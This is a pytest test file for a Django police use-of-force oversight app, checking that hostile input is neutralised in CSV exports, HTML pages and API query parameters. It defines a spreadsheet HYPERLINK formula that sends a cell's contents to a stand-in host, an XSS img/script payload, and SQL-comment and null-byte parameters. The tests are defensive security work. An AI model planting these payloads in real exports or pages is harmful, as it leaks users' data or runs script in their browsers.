"""A corpus of hostile input, each with its test: formulas in every CSV the product writes, HTML and
script in free text, malformed query parameters, huge page sizes, oversized bodies.

Elsewhere in the corpus: oversized uploads (tests/incidents/test_upload.py::test_an_oversized_file_is_refused…
and tests/incidents/test_imports_api.py::test_an_oversized_upload_is_refused), path tricks in uploaded file
names (test_upload.py::test_a_file_name_with_path_tricks… and test_stored_file_names_are_plain_names…), files
that are not tables (test_upload.py, tests/incidents/test_import_uof.py), and script in an area name drawn by
Plotly in a real browser (tests/test_browser.py::test_an_area_named_like_html_is_drawn_as_text).
"""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.utils import timezone

from forces.models import CapabilityRecord, UpliftDecision
from incidents.models import CedLevel, UseOfForceReport
from incidents.services import build_quarterly_report, import_reports, rebuild_summaries
from oversight.spreadsheets import FORMULA_STARTS
from scrutiny.models import Panel
from tests.factories import (
    ActionFactory,
    AreaFactory,
    CaseSampleFactory,
    FindingFactory,
    ForceResponseFactory,
    PanelFactory,
    PopulationBaselineFactory,
    ReportFactory,
)
from tests.incidents.test_import_uof import met_file, row

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT = "<img src=x onerror=alert(1)><script>alert(2)</script>"


def csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]


def assert_no_formula(cells, payload=FORMULA):
    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
    assert "'" + payload in cells  # the payload is there, as text


@pytest.fixture
def formulas_everywhere(thames_valley, superuser):
    """An area, a panel's grades and every free-text field of Thames Valley's records holding a formula."""
    area = AreaFactory(force=thames_valley, name=FORMULA, code="E22000155")
    PopulationBaselineFactory(area=area)
    for day in (datetime.date(2025, 4, 10), datetime.date(2025, 5, 10)):
        ReportFactory(area=area, occurred_on=day, incident_reference=FORMULA, officer_main_duty=FORMULA,
                      source_key=f"K-{day}", ced_levels=[CedLevel.FIRED])  # fmt: skip
    rebuild_summaries(force_ids=[thames_valley.pk])
    CapabilityRecord.objects.create(force=thames_valley, as_of="2025-01-01", device_model="x2", devices_in_service=1,
                                    officers_trained=2, source=FORMULA)  # fmt: skip
    UpliftDecision.objects.create(force=thames_valley, decided_on="2025-01-02", decision=FORMULA)
    panel = PanelFactory(force=thames_valley, grading_scale=Panel.Scale.CUSTOM, custom_grades=[FORMULA, "Fine"])
    finding = FindingFactory(
        sampled_case__sample=CaseSampleFactory(panel=panel), sampled_case__report=UseOfForceReport.objects.first(),
        panel_grade=FORMULA, summary=FORMULA, published=True, published_at=timezone.now(),
    )  # fmt: skip
    ForceResponseFactory(finding=finding, responded_by=superuser, response=FORMULA)
    ActionFactory(finding=finding, description=FORMULA, owner=FORMULA)
    Panel.objects.filter(pk=panel.pk).update(name=FORMULA)
    return {
        "panel": panel,
        "report": build_quarterly_report(force_id=thames_valley.pk, quarter=datetime.date(2025, 4, 1)),
    }


API_CSVS = [
    "/api/v1/forces/thames-valley/areas/?format=csv",
    "/api/v1/capability/?format=csv",
    "/api/v1/uplift-decisions/?format=csv",
    "/api/v1/published-findings/?format=csv",
    "/api/v1/findings/?format=csv",
    "/api/v1/force-responses/?format=csv",
    "/api/v1/actions/?format=csv",
    "/api/v1/summaries/?by_area=true&format=csv",
    "/api/v1/reports/?format=csv",
]


@pytest.mark.parametrize("path", API_CSVS)
def test_a_formula_in_any_api_csv_is_written_as_text(formulas_everywhere, client, pcc_staff, path):
    client.force_login(pcc_staff)
    response = client.get(path)
    assert response.status_code == 200
    assert_no_formula(csv_cells(response))


def test_a_formula_in_the_reports_csv_reads_back_as_it_was(
    formulas_everywhere, client, pcc_staff, thames_valley, tmp_path
):
    # On PostgreSQL the CSV is written by COPY, on SQLite row by row: both neutralise, both round-trip.
    client.force_login(pcc_staff)
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(client.get("/api/v1/reports/?format=csv").streaming_content))
    UseOfForceReport.objects.filter(sampled_cases__isnull=True).delete()
    import_reports(path, thames_valley)
    assert set(UseOfForceReport.objects.values_list("incident_reference", "officer_main_duty", "area__name")) == {
        (FORMULA, FORMULA, FORMULA)
    }


def test_a_formula_in_any_chart_csv_is_written_as_text(formulas_everywhere, client, pcc_staff):
    client.force_login(pcc_staff)
    for page in (
        "/forces/thames-valley/?period=fy2025",
        "/forces/thames-valley/areas/?year=2025",
        "/compare/?year=2025",
    ):
        for chart in client.get(page).context["charts"]:
            cells = csv_cells(client.get(f"{page}&chart={chart.key}&format=csv"))
            assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == [], (page, chart.key)
    assert_no_formula(csv_cells(client.get("/forces/thames-valley/?period=fy2025&chart=use-by-area&format=csv")))


def test_a_formula_in_a_quarterly_report_csv_is_written_as_text(formulas_everywhere, client, pcc_staff):
    client.force_login(pcc_staff)
    report = formulas_everywhere["report"]
    assert_no_formula(csv_cells(client.get(f"/forces/thames-valley/quarterly/{report.pk}/?format=csv")))


def test_a_formula_in_a_panels_quarterly_csv_is_written_as_text(formulas_everywhere, client, pcc_staff):
    client.force_login(pcc_staff)
    panel = formulas_everywhere["panel"]
    assert_no_formula(csv_cells(client.get(f"/scrutiny/panels/{panel.pk}/quarterly/{quarter_now()}/?format=csv")))


def quarter_now():
    today = timezone.localdate()
    return f"{today.year}-{(today.month - 1) // 3 * 3 + 1:02d}"


def test_a_formula_in_a_rejected_row_is_written_as_text_in_the_reject_file(oxford, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    rows = [row(Borough="Oxford"), row(Borough=FORMULA, IncidentDate="31/02/2021", MainDuty=FORMULA)]
    path = met_file(tmp_path / "uof.csv", rows)
    import_reports(path, oxford.force, skip_invalid=True)
    with open(tmp_path / "uof.rejects.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    assert_no_formula(cells)  # the imports page serves this file as written (tests/incidents/test_upload.py)


# --- HTML and script in free text --------------------------------------------------------------------


@pytest.fixture
def scripts_everywhere(thames_valley, superuser):
    area = AreaFactory(force=thames_valley, name=SCRIPT, code="E22000155")
    report = ReportFactory(area=area, occurred_on=datetime.date(2025, 5, 10), incident_reference=SCRIPT,
                           ced_levels=[CedLevel.FIRED])  # fmt: skip
    rebuild_summaries(force_ids=[thames_valley.pk])
    panel = PanelFactory(force=thames_valley, name=SCRIPT, grading_scale=Panel.Scale.CUSTOM, custom_grades=[SCRIPT])
    finding = FindingFactory(
        sampled_case__sample=CaseSampleFactory(panel=panel), sampled_case__report=report, panel_grade=SCRIPT,
        summary=SCRIPT, published=True, published_at=timezone.now(),
    )  # fmt: skip
    ActionFactory(finding=finding, description=SCRIPT, owner=SCRIPT)
    return {"report": report, "finding": finding, "panel": panel, "action": finding.actions.get()}


def test_html_and_script_in_free_text_are_shown_as_text_on_every_page(scripts_everywhere, pcc_staff):
    report, finding = scripts_everywhere["report"], scripts_everywhere["finding"]
    pages = [
        "/forces/thames-valley/", "/forces/thames-valley/areas/", "/public/thames-valley/", "/reports/",
        f"/reports/{report.pk}/", f"/scrutiny/findings/{finding.pk}/", "/scrutiny/actions/",
        f"/scrutiny/actions/{scripts_everywhere['action'].pk}/", f"/scrutiny/panels/{scripts_everywhere['panel'].pk}/",
        "/scrutiny/public/thames-valley/", f"/audit/reports/{report.pk}/",
    ]  # fmt: skip
    client = Client()
    client.force_login(pcc_staff)
    for page in pages:
        response = client.get(page)
        text = response.content.decode()
        assert response.status_code == 200, page
        assert "<img src=x" not in text and "<script>alert" not in text, page
        assert "&lt;img src=x onerror=alert(1)&gt;" in text or "\\u003Cimg src=x" in text, page


def test_chart_labels_reach_the_page_only_inside_escaped_json(scripts_everywhere, client, pcc_staff):
    client.force_login(pcc_staff)
    text = client.get("/forces/thames-valley/").content.decode()
    # json_script writes <, > and & as \\u003C, \\u003E and \\u0026: the label cannot close its <script>.
    assert "\\u003Cimg src=x onerror=alert(1)\\u003E\\u003Cscript\\u003Ealert(2)\\u003C/script\\u003E" in text


# --- malformed query parameters and huge page sizes -------------------------------------------------

MALFORMED = [
    # (path, what the page does with it)
    ("/forces/thames-valley/?period=%00&from=2025-13-45&to=garbage&area=%3Cscript%3E&unit=furlongs&sort=x", 200),
    ("/forces/thames-valley/?chart=%27%3B--&format=csv", 404),
    ("/forces/thames-valley/areas/?year=99999999999999999999", 200),
    ("/compare/?year=-1", 200),
    ("/public/thames-valley/?year=%00", 200),
    ("/reports/?from=not-a-date&to=2025-02-30&area=%00&highest_level=warp&page=-5", 200),
    ("/reports/?page=999999999999", 200),
    ("/reports/?page=abc&outcome=%00", 200),
    ("/reports/imports/?page=%00", 200),
    ("/scrutiny/panels/1/quarterly/%00/", 404),
    ("/scrutiny/panels/1/quarterly/2025-99/", 404),
    ("/api/v1/summaries/?from=abc", 400),
    ("/api/v1/summaries/?period=week", 400),
    ("/api/v1/summaries/?force=%00", 400),
    ("/api/v1/summaries/?by_area=maybe", 400),
    ("/api/v1/summaries/?from=2025-05&to=2024-01", 400),
    ("/api/v1/reports/?from=2025-02-30", 400),
    ("/api/v1/reports/?highest_level=warp", 400),
    ("/api/v1/reports/?area=%00", 400),
    ("/api/v1/reports/?ced_used=perhaps", 400),
    ("/api/v1/reports/?to=", 400),
    ("/api/v1/reports/?cursor=not-a-cursor", 404),
    ("/api/v1/reports/?ordering=officer_reference", 200),
    ("/api/v1/imports/?page=0", 400),
    ("/api/v1/imports/?page=99", 404),
    ("/api/v1/imports/?status=%00", 400),
    ("/api/v1/forces/?page=abc", 400),
    ("/api/v1/forces/?format=", 400),
    ("/api/v1/published-findings/?force=%00", 400),
    ("/api/v1/reports/%00/", 404),
]


@pytest.mark.parametrize(("path", "status"), MALFORMED)
def test_malformed_query_parameters_get_a_clear_answer_never_a_server_error(client, pcc_staff, oxford, path, status):
    ReportFactory(area=oxford)
    rebuild_summaries(force_ids=["thames-valley"])
    client.force_login(pcc_staff)
    response = client.get(path)
    assert response.status_code == status
    if path.startswith("/api/") and status >= 400:
        assert response.json()["message"]


@pytest.mark.parametrize(
    ("path", "most"),
    [
        ("/api/v1/forces/?page_size=100000000", 1000),
        ("/api/v1/reports/?page_size=99999999999999999999", 1000),
        ("/api/v1/summaries/?page_size=100000000&by_area=true", 1000),
    ],
)
def test_huge_or_silly_page_sizes_are_held_to_the_largest_page(client, pcc_staff, oxford, path, most):
    for day in range(1, 29):
        ReportFactory(area=oxford, occurred_on=datetime.date(2025, 2, day))
    client.force_login(pcc_staff)
    response = client.get(path)
    assert response.status_code == 200
    assert len(response.json()["results"]) <= most


@pytest.mark.parametrize("size", ["-5", "0", "abc", "null"])
def test_a_page_size_that_is_not_a_whole_number_from_1_answers_400(client, size):
    response = client.get("/api/v1/forces/", {"page_size": size})
    assert response.status_code == 400
    assert response.json()["errors"] == {"page_size": [f"{size!r} is not a page size (1, 2, …)."]}


def test_an_oversized_form_body_is_refused_before_it_is_read(client, pcc_staff, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client.force_login(pcc_staff)
    response = client.post("/account/tokens/", {"name": "x" * 20_000, "access": "read"})
    assert response.status_code == 400
